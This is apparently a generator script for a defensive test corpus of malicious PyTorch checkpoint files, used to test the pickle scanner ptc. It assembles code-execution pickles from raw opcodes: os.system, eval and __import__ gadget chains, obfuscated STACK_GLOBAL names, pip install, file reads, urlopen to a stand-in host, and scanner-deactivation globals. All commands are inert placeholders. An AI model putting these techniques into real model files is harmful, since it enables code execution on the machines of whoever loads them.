#!/usr/bin/env python3
"""gen_hostile.py - generates ptc's hostile checkpoint corpus.

Writes testdata/hostile/files/*.pth and testdata/hostile/manifest.json (next to this script), one
file per case of the attack catalogue in shared/reference/threat-model.md section 6 (6.1 U*, 6.2 Z*,
6.3 V*, 6.4 T*, 6.5 A*) plus further cases grouped by the security property of section 1.4 they
exercise (ids P1 ... P10).

Rules this script keeps:
  * Python standard library only. torch is never imported (check_corpus.py may use it to compare).
  * Nothing is ever unpickled or executed: every pickle is assembled from opcode bytes (the
    constants of the pickle module) by a small emitter that mimics CPython's protocol-2 pickler as
    torch.save drives it (same opcode choices, same memo numbering), and every zip is assembled
    byte by byte in torch 2.6's layout (pth-format.md 2.3). Payload commands are inert strings.
  * Deterministic: no timestamps, no randomness; running it twice gives identical bytes.

Usage: python3 testdata/hostile/gen_hostile.py [--out DIR]
"""
import argparse
import io
import json
import os
import pickle as P
import struct
import sys
import tarfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
CMD = 'echo ptc-hostile-fixture'  # the only "command" any payload names; never run

# =================================================================================================
# Pickle emitter
# =================================================================================================


class Glob:
    """A reference to a global: GLOBAL module\\nname\\n (memoized like CPython)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Call:
    """func(*args) pickled with REDUCE (or NEWOBJ), then optional dict items (SETITEMS), list
    items (APPENDS) and state (BUILD), in the order CPython's save_reduce writes them."""

    def __init__(self, func, args=(), items=None, listitems=None, state=None, newobj=False):
        self.func, self.args, self.items = func, args, items
        self.listitems, self.state, self.newobj = listitems, state, newobj


class PersId:
    """A persistent id: the pid value, then BINPERSID."""

    def __init__(self, pid):
        self.pid = pid


class Raw:
    """Bytes spliced verbatim into the stream."""

    def __init__(self, b):
        self.b = bytes(b)


class Bytes:
    """A bytes value, written as _codecs.encode(latin1 str, 'latin1') like protocol 2 does."""

    def __init__(self, b):
        self.b = bytes(b)


def od(items=(), state=None):
    """collections.OrderedDict(): GLOBAL, EMPTY_TUPLE, REDUCE, items, BUILD(state)."""
    return Call(Glob('collections', 'OrderedDict'), (), items=list(items) or None, state=state)


def encode_long(x):
    """LONG1 payload: minimal two's-complement little-endian (CPython's encode_long)."""
    if x == 0:
        return b''
    nbytes = (x.bit_length() >> 3) + 1
    r = x.to_bytes(nbytes, 'little', signed=True)
    if x < 0 and nbytes > 1 and r[-1] == 0xff and (r[-2] & 0x80) != 0:
        r = r[:-1]
    return r


def op_int(x):
    if 0 <= x <= 0xff:
        return P.BININT1 + bytes([x])
    if 0 <= x <= 0xffff:
        return P.BININT2 + struct.pack('<H', x)
    if -0x80000000 <= x <= 0x7fffffff:
        return P.BININT + struct.pack('<i', x)
    enc = encode_long(x)
    assert len(enc) < 256
    return P.LONG1 + bytes([len(enc)]) + enc


def op_str(s):
    b = s.encode('utf-8', 'surrogatepass')
    return P.BINUNICODE + struct.pack('<I', len(b)) + b


def op_global(module, name):
    m = module if isinstance(module, bytes) else module.encode()
    n = name if isinstance(name, bytes) else name.encode()
    return P.GLOBAL + m + b'\n' + n + b'\n'


class Emitter:
    """Writes values the way CPython's C pickler does at protocol 2 with torch's persistent_id."""

    def __init__(self):
        self.out = bytearray()
        self.memo = {}  # key -> index
        self.n = 0

    def put(self, key):
        i = self.n
        self.n += 1
        self.memo[key] = i
        self.out += P.BINPUT + bytes([i]) if i < 256 else P.LONG_BINPUT + struct.pack('<I', i)
        return i

    def get(self, i):
        self.out += P.BINGET + bytes([i]) if i < 256 else P.LONG_BINGET + struct.pack('<I', i)

    def memo_of(self, obj):
        return self.memo[('id', id(obj))]

    def _memoized(self, key):
        if key in self.memo:
            self.get(self.memo[key])
            return True
        return False

    def batch(self, items, single_op, many_op, is_dict):
        items = list(items)
        for i in range(0, len(items), 1000):
            chunk = items[i:i + 1000]
            if len(chunk) == 1:
                if is_dict:
                    self.save(chunk[0][0])
                    self.save(chunk[0][1])
                else:
                    self.save(chunk[0])
                self.out += single_op
            else:
                self.out += P.MARK
                for it in chunk:
                    if is_dict:
                        self.save(it[0])
                        self.save(it[1])
                    else:
                        self.save(it)
                self.out += many_op

    def save(self, obj):
        if isinstance(obj, Raw):
            self.out += obj.b
        elif isinstance(obj, PersId):
            self.save(obj.pid)
            self.out += P.BINPERSID
        elif obj is None:
            self.out += P.NONE
        elif obj is True:
            self.out += P.NEWTRUE
        elif obj is False:
            self.out += P.NEWFALSE
        elif isinstance(obj, int):
            self.out += op_int(obj)
        elif isinstance(obj, float):
            self.out += P.BINFLOAT + struct.pack('>d', obj)
        elif isinstance(obj, str):
            if not self._memoized(('s', obj)):
                self.out += op_str(obj)
                self.put(('s', obj))
        elif isinstance(obj, Bytes):
            self.save(Call(Glob('_codecs', 'encode'), (obj.b.decode('latin1'), 'latin1')))
        elif isinstance(obj, Glob):
            if not self._memoized(('g', obj.module, obj.name)):
                self.out += op_global(obj.module, obj.name)
                self.put(('g', obj.module, obj.name))
        elif isinstance(obj, tuple):
            if len(obj) == 0:
                self.out += P.EMPTY_TUPLE
                return
            if len(obj) <= 3:
                for x in obj:
                    self.save(x)
                self.out += {1: P.TUPLE1, 2: P.TUPLE2, 3: P.TUPLE3}[len(obj)]
            else:
                self.out += P.MARK
                for x in obj:
                    self.save(x)
                self.out += P.TUPLE
            self.put(('t', self.n))  # tuples are never shared here
        elif isinstance(obj, list):
            if self._memoized(('id', id(obj))):
                return
            self.out += P.EMPTY_LIST
            self.put(('id', id(obj)))
            self.batch(obj, P.APPEND, P.APPENDS, False)
        elif isinstance(obj, dict):
            if self._memoized(('id', id(obj))):
                return
            self.out += P.EMPTY_DICT
            self.put(('id', id(obj)))
            self.batch(obj.items(), P.SETITEM, P.SETITEMS, True)
        elif isinstance(obj, Call):
            if self._memoized(('id', id(obj))):
                return
            self.save(obj.func)
            self.save(tuple(obj.args))
            self.out += P.NEWOBJ if obj.newobj else P.REDUCE
            self.put(('id', id(obj)))
            if obj.listitems:
                self.batch(obj.listitems, P.APPEND, P.APPENDS, False)
            if obj.items:
                self.batch(obj.items, P.SETITEM, P.SETITEMS, True)
            if obj.state is not None:
                self.save(obj.state)
                self.out += P.BUILD
        else:
            raise TypeError(type(obj))


def dumps(obj, proto=True):
    e = Emitter()
    if proto:
        e.out += P.PROTO + b'\x02'
    e.save(obj)
    e.out += P.STOP
    return bytes(e.out)


def payload(module, name, args=(CMD,), proto=2):
    """P2(GLOBAL module name, args, REDUCE): the classic code-execution pickle."""
    return (P.PROTO + bytes([proto]) + op_global(module, name) + dumps(tuple(args), proto=False)[:-1]
            + P.REDUCE + P.STOP)


# ---- torch values -------------------------------------------------------------------------------
STORAGE_ELSIZE = {
    'DoubleStorage': 8, 'FloatStorage': 4, 'HalfStorage': 2, 'BFloat16Storage': 2,
    'LongStorage': 8, 'IntStorage': 4, 'ShortStorage': 2, 'CharStorage': 1, 'ByteStorage': 1,
    'BoolStorage': 1, 'ComplexDoubleStorage': 16, 'ComplexFloatStorage': 8,
}


def pid(key, storage='FloatStorage', numel=4, loc='cpu', module='torch', legacy=False):
    t = ('storage', Glob(module, storage), key, loc, numel)
    if legacy:
        t = t + (None,)
    return PersId(t)


def tensor(key='0', storage='FloatStorage', numel=4, offset=0, size=(4,), stride=(1,), rg=False,
           loc='cpu', fn='_rebuild_tensor_v2', extra=(), pid_obj=None, legacy=False,
           storage_module='torch'):
    p = pid_obj if pid_obj is not None else pid(key, storage, numel, loc, storage_module, legacy)
    return Call(Glob('torch._utils', fn), (p, offset, tuple(size), tuple(stride), rg, od()) + tuple(extra))


def f32(*xs):
    return struct.pack('<%df' % len(xs), *xs)


DATA0 = f32(1.0, 2.0, 3.0, 4.0)  # the 16-byte record of Z0


def z0_obj(key='0'):
    """Z0's object: OrderedDict{'weight': (2,2) float32 view of storage '0' (4 elements)}."""
    return od([('weight', tensor(key, size=(2, 2), stride=(2, 1)))])


Z0_PKL = None  # filled below

# =================================================================================================
# Zip builder (torch 2.6 layout by default; every field can be overridden to build hostile cases)
# =================================================================================================
SIG_LOCAL, SIG_CD, SIG_DESC = 0x04034b50, 0x02014b50, 0x08074b50
SIG_EOCD, SIG_Z64, SIG_Z64LOC = 0x06054b50, 0x06064b50, 0x07064b50


def deflate(data, level=9):
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


class Ent:
    """One archive member. name is the full name (bytes or str). Keyword overrides:
    method, payload (bytes as stored in the file; default: data, deflated when method 8),
    flags / local_flags / cd_flags, local_name / cd_name, local_method / cd_method,
    local_crc / local_csize / local_usize, cd_crc / cd_csize / cd_usize, desc (bool),
    desc_crc / desc_csize / desc_usize, zip64 (bool), align (bool), local_extra (before FB),
    cd_extra, cd_offset, version_needed, after (bytes inserted after the record)."""

    def __init__(self, name, data=b'', **kw):
        self.name = name.encode('utf-8', 'surrogateescape') if isinstance(name, str) else name
        self.data = data
        self.kw = kw
        self.method = kw.get('method', 0)
        if 'payload' in kw:
            self.payload = kw['payload']
        else:
            self.payload = deflate(data) if self.method == 8 else data
        self.usize = kw.get('usize', len(data))
        self.crc = kw.get('crc', zlib.crc32(data))


def build_zip(ents, zip64_end=True, comment=b'', tail=b'', eocd=None, z64=None, loc=None,
              eocd_comment_len=None):
    """Returns (bytes, info). info has per-entry offsets and the end-record offsets."""
    eocd, z64, loc = eocd or {}, z64 or {}, loc or {}
    out = bytearray()
    info = {'hdr': [], 'data': [], 'end': []}
    for e in ents:
        kw = e.kw
        csize = len(e.payload)
        zip64 = kw.get('zip64', False)
        if kw.get('cd_only'):
            info['hdr'].append(kw['cd_offset'])
            info['data'].append(None)
            info['end'].append(None)
            continue
        flags = kw.get('flags', 0x0808 if csize > 0 and not zip64 else 0x0800)
        lflags = kw.get('local_flags', flags)
        off = len(out)
        lname = kw.get('local_name', e.name)
        lextra = struct.pack('<HHQQ', 1, 16, e.usize, csize) if zip64 else b''
        lextra = kw.get('local_extra', lextra)
        if kw.get('align', True):
            start = off + 30 + len(lname) + len(lextra) + 4
            pad = (64 - start % 64) % 64
            lextra += b'FB' + struct.pack('<H', pad) + b'Z' * pad
        desc = kw.get('desc', bool(lflags & 8) and csize > 0)
        if desc and not zip64:
            lcrc, lcs, lus = 0, 0, 0
        elif zip64:
            lcrc, lcs, lus = (0 if desc else e.crc), 0xFFFFFFFF, 0xFFFFFFFF
        else:
            lcrc, lcs, lus = e.crc, csize, e.usize
        lcrc = kw.get('local_crc', lcrc)
        lcs = kw.get('local_csize', lcs)
        lus = kw.get('local_usize', lus)
        vneeded = kw.get('version_needed', 45 if zip64 else (20 if e.method == 8 else 0))
        lmethod = kw.get('local_method', e.method)
        out += struct.pack('<IHHHHHIIIHH', SIG_LOCAL, vneeded, lflags, lmethod, 0, 0, lcrc, lcs, lus,
                           len(lname), len(lextra)) + lname + lextra
        info['hdr'].append(off)
        info['data'].append(len(out))
        out += e.payload
        if desc:
            dcrc = kw.get('desc_crc', e.crc)
            dcs = kw.get('desc_csize', csize)
            dus = kw.get('desc_usize', e.usize)
            if zip64:
                out += struct.pack('<IIQQ', SIG_DESC, dcrc, dcs, dus)
            else:
                out += struct.pack('<IIII', SIG_DESC, dcrc, dcs, dus)
        info['end'].append(len(out))
        out += kw.get('after', b'')
    cd_off = len(out)
    info['cd'] = cd_off
    info['cdent'] = []
    for e, hoff in zip(ents, info['hdr']):
        kw = e.kw
        csize = len(e.payload)
        zip64 = kw.get('zip64', False)
        flags = kw.get('flags', 0x0808 if csize > 0 and not zip64 else 0x0800)
        cflags = kw.get('cd_flags', flags)
        cname = kw.get('cd_name', e.name)
        cmethod = kw.get('cd_method', e.method)
        coff = kw.get('cd_offset', hoff)
        if zip64:
            cextra = struct.pack('<HHQQQ', 1, 24, e.usize, csize, coff)
            ccs, cus, coff32 = 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF
        else:
            cextra, ccs, cus, coff32 = b'', csize, e.usize, coff
        cextra = kw.get('cd_extra', cextra)
        ccrc = kw.get('cd_crc', e.crc)
        ccs = kw.get('cd_csize', ccs)
        cus = kw.get('cd_usize', cus)
        vneeded = kw.get('version_needed', 45 if zip64 else (20 if e.method == 8 else 0))
        info['cdent'].append(len(out))
        out += struct.pack('<IHHHHHHIIIHHHHHII', SIG_CD, kw.get('made_by', 0), vneeded, cflags, cmethod,
                           0, 0, ccrc, ccs, cus, len(cname), len(cextra), len(kw.get('cd_comment', b'')),
                           0, 0, kw.get('ext_attr', 0), coff32) + cname + cextra + kw.get('cd_comment', b'')
    cd_size = len(out) - cd_off
    n = len(ents)
    if zip64_end:
        z64_off = len(out)
        info['z64'] = z64_off
        out += struct.pack('<IQHHIIQQQQ', SIG_Z64, z64.get('size', 44), 0x031E, 0x002D,
                           z64.get('disk', 0), z64.get('cd_disk', 0), z64.get('n_disk', n),
                           z64.get('n', n), z64.get('cd_size', cd_size), z64.get('cd_off', cd_off))
        info['z64loc'] = len(out)
        out += struct.pack('<IIQI', SIG_Z64LOC, loc.get('disk', 0), loc.get('off', z64_off),
                           loc.get('ndisks', 1))
    info['eocd'] = len(out)
    clen = len(comment) if eocd_comment_len is None else eocd_comment_len
    out += struct.pack('<IHHHHIIH', SIG_EOCD, eocd.get('disk', 0), eocd.get('cd_disk', 0),
                       eocd.get('n_disk', min(n, 0xFFFF)), eocd.get('n', min(n, 0xFFFF)),
                       eocd.get('cd_size', min(cd_size, 0xFFFFFFFF)),
                       eocd.get('cd_off', min(cd_off, 0xFFFFFFFF)), clen) + comment
    out += tail
    return bytes(out), info


def serialization_id(names):
    """40 ASCII digits, deterministic (torch's own value is a hash that differs per machine)."""
    h1 = zlib.crc32('\n'.join(names).encode()) * 2654435761 % 10**20
    h2 = zlib.adler32('\n'.join(names).encode()) * 40503 % 10**20
    return ('%020d%020d' % (h1, h2)).encode()


def torch_ents(pkl, storages=None, prefix='archive', byteorder=b'little', version=b'3\n',
               fmt27=False, sid=True, extra=(), zip64=False, method=0):
    """The member list torch.save 2.6 writes: data.pkl, byteorder, data/<key> in lexicographic key
    order, version, .data/serialization_id. fmt27 adds 2.7's .format_version/.storage_alignment.
    storages maps key -> bytes. extra: more (record, data) pairs placed before version."""
    storages = {'0': DATA0} if storages is None else storages
    recs = [('data.pkl', pkl)]
    if fmt27:
        recs += [('.format_version', b'1'), ('.storage_alignment', b'64')]
    if byteorder is not None:
        recs.append(('byteorder', byteorder))
    for k in sorted(storages):
        recs.append(('data/' + k, storages[k]))
    recs += list(extra)
    if version is not None:
        recs.append(('version', version))
    if sid:
        names = [prefix + '/' + r for r, _ in recs]
        recs.append(('.data/serialization_id', serialization_id(names)))
    return [Ent(prefix + '/' + r, d, zip64=zip64, method=method) for r, d in recs]


def torch_zip(pkl, **kw):
    zkw = {k: kw.pop(k) for k in ('zip64_end', 'comment', 'tail') if k in kw}
    return build_zip(torch_ents(pkl, **kw), **zkw)[0]


# =================================================================================================
# Legacy stream (pth-format.md 5.1)
# =================================================================================================
LEGACY_MAGIC = dumps(0x1950A86A20F9469CFC6C)
assert LEGACY_MAGIC == bytes.fromhex('80028a0a6cfc9c46f9206aa850192e')
LEGACY_PROTO = dumps(1001)
SYS_INFO = {'protocol_version': 1001, 'little_endian': True,
            'type_sizes': {'short': 2, 'int': 4, 'long': 4}}
LEGACY_KEYS = ('110918416', '110918656')  # the keys of vectors/legacy_format.pt (pointer values)


def legacy_obj():
    k_w, k_h = LEGACY_KEYS
    return {'w': tensor(k_w, 'FloatStorage', 4, size=(4,), stride=(1,), legacy=True),
            'h': tensor(k_h, 'HalfStorage', 3, size=(3,), stride=(1,), legacy=True)}


def legacy_data():
    return [(4, f32(0.0, 1.0, 2.0, 3.0)), (3, b'\x00\x3c' * 3)]


def legacy_stream(obj=None, keys=None, data=None, magic=None, proto=None, sysinfo=None,
                  obj_pkl=None, keys_pkl=None, tail=b''):
    """Five pickles then, per key, an int64 LE element count and the raw bytes."""
    out = magic if magic is not None else LEGACY_MAGIC
    out += proto if proto is not None else LEGACY_PROTO
    out += sysinfo if sysinfo is not None else dumps(SYS_INFO)
    out += obj_pkl if obj_pkl is not None else dumps(obj if obj is not None else legacy_obj())
    out += keys_pkl if keys_pkl is not None else dumps(list(keys if keys is not None else LEGACY_KEYS))
    for count, raw in (data if data is not None else legacy_data()):
        out += struct.pack('<q', count) + raw
    return out + tail


# =================================================================================================
# Other containers: tar (pre-0.1.10 torch), 7z
# =================================================================================================
def tar_bytes(members):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode='w', format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ''
            tf.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


def sevenzip_number(v):
    """7z variable-length NUMBER."""
    for n in range(9):
        if v < (1 << (7 * (n + 1))) or n == 8:
            break
    if n == 0:
        return bytes([v])
    if n == 8:
        return b'\xff' + struct.pack('<Q', v)
    first = (0xFF << (8 - n)) & 0xFF
    high = v >> (8 * n)
    return bytes([first | high]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, 'little')


def sevenzip_stored(name, data):
    """A minimal 7z archive with one member stored by the Copy coder."""
    hdr = bytearray(b'\x01\x04')                               # Header, MainStreamsInfo
    hdr += b'\x06\x00\x01\x09' + sevenzip_number(len(data)) + b'\x00'  # PackInfo
    hdr += b'\x07\x0b\x01\x00' + b'\x01\x01\x00'               # UnPackInfo: 1 folder, 1 coder: Copy
    hdr += b'\x0c' + sevenzip_number(len(data)) + b'\x00'      # CodersUnPackSize, End
    hdr += b'\x08\x0a\x01' + struct.pack('<I', zlib.crc32(data)) + b'\x00'  # SubStreams: CRC
    hdr += b'\x00'                                               # End MainStreamsInfo
    nm = name.encode('utf-16-le') + b'\x00\x00'
    hdr += b'\x05\x01' + b'\x11' + sevenzip_number(len(nm) + 1) + b'\x00' + nm + b'\x00'
    hdr += b'\x00'                                               # End Header
    start = struct.pack('<QQI', len(data), len(hdr), zlib.crc32(bytes(hdr)))
    return (b'7z\xbc\xaf\x27\x1c\x00\x04' + struct.pack('<I', zlib.crc32(start)) + start + data
            + bytes(hdr))


# =================================================================================================
# The catalogue
# =================================================================================================
CASES = []
VERDICT_OF = {'OK': 'ok', 'EUNSAFE': 'unsafe'}


def add(fname, cid, expect, why, data, verdict=None):
    assert expect in ('OK', 'EUNSAFE', 'EFORMAT', 'ELIMIT', 'EUNSUPPORTED', 'ECRC', 'ENOTZIP'), expect
    assert '\n' not in why
    if verdict is None:
        verdict = VERDICT_OF.get(expect, 'malformed')
    assert all(c['file'] != fname for c in CASES), fname
    CASES.append({'file': fname, 'id': cid, 'expect': expect, 'verdict': verdict, 'why': why,
                  'data': data})


def zpkl(pkl, storages=None, **kw):
    """A torch-layout zip around a pickle; by default without storages unless given."""
    return torch_zip(pkl, storages=storages if storages is not None else {}, **kw)


def U(n, slug, pkl, why, expect='EUNSAFE', storages=None):
    stem = 'u%02d' % n if isinstance(n, int) else 'u' + n
    add(stem + ('-' + slug if slug else '') + '.pth', 'U%02d' % (n if isinstance(n, int) else int(n[:2])),
        expect, why, zpkl(pkl, storages))


def gen_u():
    z0st = {'0': DATA0}
    U(1, 'os-system-reduce', payload('posix', 'system'), 'GLOBAL posix.system + REDUCE; module posix is always blocked')
    U('01b', 'os-system-os-module', payload('os', 'system'), 'GLOBAL os.system (os module is blocked)')
    U('01c', 'nt-system', payload('nt', 'system'), 'GLOBAL nt.system (nt module is blocked)')
    # U02: a dict subclass reducing to eval, with the real weights as dict items (torch_ace_create)
    bad = Call(Glob('builtins', 'eval'), ("__import__('os').system('%s') or dict()" % CMD,),
               items=[('weight', tensor('0', size=(2, 2), stride=(2, 1)))])
    U(2, 'reduce-replaces-dict', dumps(bad), 'top-level object is eval(...) REDUCE carrying real weights as SETITEMS',
      storages=z0st)
    U(3, 'py2-builtin-alias', payload('__builtin__', 'eval', ('1+1',)), '__builtin__.eval maps to builtins.eval, not allowlisted')
    U('03b', 'py2-copy-reg-alias', dumps(Call(Glob('copy_reg', '_reconstructor'),
                                              (Glob('collections', 'OrderedDict'), Glob('__builtin__', 'dict'), None))),
      'copy_reg._reconstructor maps to copyreg._reconstructor, not allowlisted')
    U(4, 'inst-opcode-exec', P.MARK + b"S'print(1)'\n" + P.INST + b'__builtin__\nexec\n' + P.STOP,
      'protocol 0 MARK STRING INST __builtin__.exec')
    U(5, 'obj-then-pop', P.PROTO + b'\x02' + P.MARK + op_global('smtplib', 'SMTP') + op_str('localhost')
      + P.OBJ + P.POP + P.NONE + P.STOP, 'OBJ smtplib.SMTP whose result is POPped, then NONE STOP')
    # U06: decoy strings memoized then fetched for STACK_GLOBAL (protocol 4)
    def sbu(s):
        return P.SHORT_BINUNICODE + bytes([len(s)]) + s.encode()
    body = (sbu('torch') + P.MEMOIZE + P.POP + sbu('LongStorage') + P.MEMOIZE + P.POP + sbu('os') + P.MEMOIZE
            + P.POP + sbu('system') + P.MEMOIZE + P.POP + P.BINGET + b'\x02' + P.BINGET + b'\x03'
            + P.STACK_GLOBAL + sbu(CMD) + P.TUPLE1 + P.REDUCE + P.STOP)
    U(6, 'stack-global-memo-decoy', P.PROTO + b'\x04' + P.FRAME + struct.pack('<Q', len(body)) + body,
      'protocol 4: memoized decoy strings feed STACK_GLOBAL os.system')
    U(7, 'stack-global-string-ops', b"S'os'\nS'system'\n" + P.STACK_GLOBAL + b"S'%s'\n" % CMD.encode()
      + P.TUPLE1 + P.REDUCE + P.STOP, 'STRING os, STRING system, STACK_GLOBAL at the very start')
    # U08: runtime-built name: ''.join(itemgetter(...)(alphabet)) -> STACK_GLOBAL
    alpha = b'abcdefghijklmnopqrstuvwxyz'
    u8 = (P.PROTO + b'\x04' + op_global('builtins', 'getattr') + sbu('') + sbu('join') + P.TUPLE2 + P.REDUCE
          + P.MEMOIZE
          + op_global('operator', 'itemgetter') + P.MEMOIZE + op_int(14) + op_int(18) + P.TUPLE2 + P.REDUCE
          + P.SHORT_BINUNICODE + bytes([len(alpha)]) + alpha + P.MEMOIZE + P.TUPLE1 + P.REDUCE
          + P.TUPLE1 + P.REDUCE
          + P.BINGET + b'\x00' + P.BINGET + b'\x01' + P.MARK + b''.join(op_int(i) for i in (18, 24, 18, 19, 4, 12))
          + P.TUPLE + P.REDUCE + P.BINGET + b'\x02' + P.TUPLE1 + P.REDUCE + P.TUPLE1 + P.REDUCE
          + P.STACK_GLOBAL + sbu(CMD) + P.TUPLE1 + P.REDUCE + P.STOP)
    U(8, 'runtime-built-name', u8, "operator.itemgetter over an alphabet + ''.join build os/system for STACK_GLOBAL")
    imp_os = Call(Glob('builtins', '__import__'), ('os',))
    U(9, 'getattr-import-chain', dumps(Call(Call(Glob('builtins', 'getattr'), (imp_os, 'system')), (CMD,))),
      'builtins.__import__(os) -> builtins.getattr(mod, system) -> call')
    U(10, 'attrgetter-gadget', dumps(Call(Call(Call(Glob('operator', 'attrgetter'), ('system',)),
                                               (Call(Glob('builtins', '__import__'), ('os',)),)), (CMD,))),
      'operator.attrgetter(system) applied to __import__(os)')
    U(11, 'methodcaller-pydoc', dumps(Call(Call(Glob('_operator', 'methodcaller'), ('system', CMD)),
                                           (Call(Glob('pydoc', 'locate'), ('os',)),))),
      '_operator.methodcaller(system, cmd) applied to pydoc.locate(os)')
    part = Call(Glob('functools', 'partial'), (Glob('torch', 'load'),),
                state=(Glob('torch', 'load'), ('other.bin',),
                       {'pickle_file': 'config.json', 'weights_only': False}, None))
    U(12, 'partial-torch-load', dumps(Call(part, ())),
      'functools.partial(torch.load, other.bin, pickle_file=config.json, weights_only=False)()')
    inner = b"cos\nsystem\n(S'%s'\ntR." % CMD.encode()
    U('13a', 'pickle-in-pickle', dumps(Call(Glob('pickle', 'loads'), (Bytes(inner),))),
      'pickle.loads of an inner protocol-0 os.system pickle (bytes via allowlisted _codecs.encode)')
    U('13b', 'pickle-in-pickle-c', dumps(Call(Glob('_pickle', 'loads'), (Bytes(inner),))),
      '_pickle.loads of an inner os.system pickle')
    U(14, 'pip-install', dumps(Call(Glob('pip', 'main'), (['install', 'ptc-hostile-nonexistent'],))),
      'pip.main([install, pkg]) (CVE-2025-1716)')
    U(15, 'runpy-run-code', dumps(Call(Glob('runpy', '_run_code'), ('print(1)', {}))), 'runpy._run_code(src, {})')
    gadgets16 = [('inductor-compile-file', 'torch._inductor.codecache', 'compile_file', ('a.cpp', 'a.so', ['sh', '-c', CMD])),
                 ('collect-env-run', 'torch.utils.collect_env', 'run', (CMD,)),
                 ('jit-execwrapper', 'torch.jit.unsupported_tensor_ops', 'execWrapper', ('print(1)',)),
                 ('dynamo-guardbuilder-get', 'torch._dynamo.guards', 'GuardBuilder.get', ('print(1)',)),
                 ('config-module-load-config', 'torch.utils._config_module', 'ConfigModule.load_config', (Bytes(inner),))]
    for slug, m, nme, args in gadgets16:
        U('16-' + slug, '', dumps(Call(Glob(m, nme), args)), 'torch-internal gadget %s.%s (torch.* prefix is not an allowlist)' % (m, nme))
    U(17, 'resolve-name', dumps(Call(Call(Glob('pkgutil', 'resolve_name'), ('os:system',)), (CMD,))),
      "pkgutil.resolve_name('os:system') then call")
    gadgets18 = [('timeit', 'timeit', ('print(1)',)), ('cProfile', 'run', ('print(1)',)),
                 ('profile', 'run', ('print(1)',)), ('trace', 'Trace.run', ('print(1)',)),
                 ('bdb', 'Bdb.run', ('print(1)',)), ('code', 'InteractiveInterpreter.runcode', ('print(1)',)),
                 ('doctest', 'debug_script', ('print(1)',)), ('uuid', '_get_command_stdout', ('sh', '-c', CMD)),
                 ('imaplib', 'IMAP4_stream', (CMD,)), ('pty', 'spawn', (CMD,)), ('venv', 'create', ('/tmp/ptc-venv',))]
    for m, nme, args in gadgets18:
        slug = (m + '-' + nme).lower().replace('.', '-').replace('_', '-').strip('-')
        U('18-' + slug, '', dumps(Call(Glob(m, nme), args)), 'stdlib gadget %s.%s' % (m, nme))
    U(19, 'submodule-of-denied', dumps(Call(Glob('asyncio.unix_events', '_UnixSubprocessTransport._start'), (CMD,))),
      'asyncio.unix_events._UnixSubprocessTransport._start (defeats prefix-only denylists)')
    U('20a', 'dotted-name-stack-global', P.PROTO + b'\x04' + sbu('pathlib') + sbu('os.system') + P.STACK_GLOBAL
      + sbu(CMD) + P.TUPLE1 + P.REDUCE + P.STOP, 'PROTO 4 STACK_GLOBAL(pathlib, os.system) dotted-name escape')
    U('20b', 'dotted-name-global', payload('torch', 'serialization.os.system', proto=4),
      "PROTO 4 GLOBAL torch / serialization.os.system must not match any allowlisted prefix")
    u21 = (P.PROTO + b'\x02' + op_global('numpy', 'size') + P.BINPUT + b'\x00'
           + P.NONE + P.EMPTY_DICT + op_str('eval') + op_global('numpy', '__builtins__') + P.SETITEM + P.TUPLE2 + P.BUILD
           + P.BINGET + b'\x00' + P.BINGET + b'\x00' + op_str('eval') + P.TUPLE2 + P.REDUCE
           + op_str('print(1)') + P.TUPLE1 + P.REDUCE + P.STOP)
    U(21, 'build-plant-attr', u21, 'numpy.size + numpy.__builtins__ planted by BUILD, then numpy.size(numpy.size, eval)')
    U('22a', 'codetype', dumps(Call(Glob('types', 'CodeType'), (0, 0, 0, 0, 0, 0, Bytes(b'd\x00S\x00'), (), (), (), 'x', 'x', 'x', 1, Bytes(b'\x00'), Bytes(b'\x00'), (), ()))),
      'types.CodeType(...) builds a code object')
    U('22b', 'marshal-loads', dumps(Call(Glob('marshal', 'loads'), (Bytes(b'\xe3' + b'\x00' * 16),))), 'marshal.loads(code bytes)')
    U('22c', 'cloudpickle-make-function', dumps(Call(Glob('cloudpickle.cloudpickle', '_make_function'), (None, {}, 'f', None, None))),
      'cloudpickle._make_function code injection')
    U(23, 'ctypes-cdll', dumps(Call(Glob('ctypes', 'CDLL'), (None,))), 'ctypes.CDLL(None)')
    U('24a', 'io-fileio', dumps(Call(Glob('_io', 'FileIO'), ('/etc/hosts',))), "_io.FileIO('/etc/hosts')")
    U('24b', 'logging-filehandler', dumps(Call(Glob('logging', 'FileHandler'), ('/tmp/ptc-hostile.log',))), 'logging.FileHandler(path)')
    U('24c', 'urllib-urlopen', dumps(Call(Glob('urllib.request', 'urlopen'), ('http://ptc-hostile.invalid/',))), 'urllib.request.urlopen(url)')
    U('24d', 'ssl-get-server-certificate', dumps(Call(Glob('ssl', 'get_server_certificate'), (('ptc-hostile.invalid', 443),))),
      'ssl.get_server_certificate((host, 443)) DNS exfiltration')
    for slug, m, nme in (('picklescan', 'picklescan.scanner', 'scan_pickle_bytes'),
                         ('fickling', 'fickling.hook', 'deactivate_safe_ml_environment'),
                         ('modelscan', 'modelscan.modelscan', 'ModelScan')):
        U('25-' + slug, '', dumps(Call(Glob(m, nme), ())), 'scanner-deactivation global %s.%s' % (m, nme))
    two = Glob('torch.testing._internal.two_tensor', 'TwoTensor')
    U('26a', 'wrapper-subclass-twotensor', dumps(Call(Glob('torch._utils', '_rebuild_wrapper_subclass'),
                                                      (two, Glob('torch', 'float32'), (4,), (1,), 0, None, Call(Glob('torch', 'device'), ('cpu',)), False))),
      '_rebuild_wrapper_subclass of TwoTensor (class not allowlisted)')
    U('26b', 'from-type-v2-twotensor', dumps(Call(Glob('torch._tensor', '_rebuild_from_type_v2'),
                                                  (Glob('torch._utils', '_rebuild_tensor_v2'), two,
                                                   (PersId(('storage', Glob('torch', 'FloatStorage'), '0', 'cpu', 4)), 0, (4,), (1,), False, od()), {}))),
      '_rebuild_from_type_v2 with new_type TwoTensor (not allowlisted)', storages=z0st)
    U('26c', 'newobj-main-point', dumps(Call(Glob('__main__', 'Point'), (1, 2), newobj=True)), '__main__.Point via NEWOBJ')
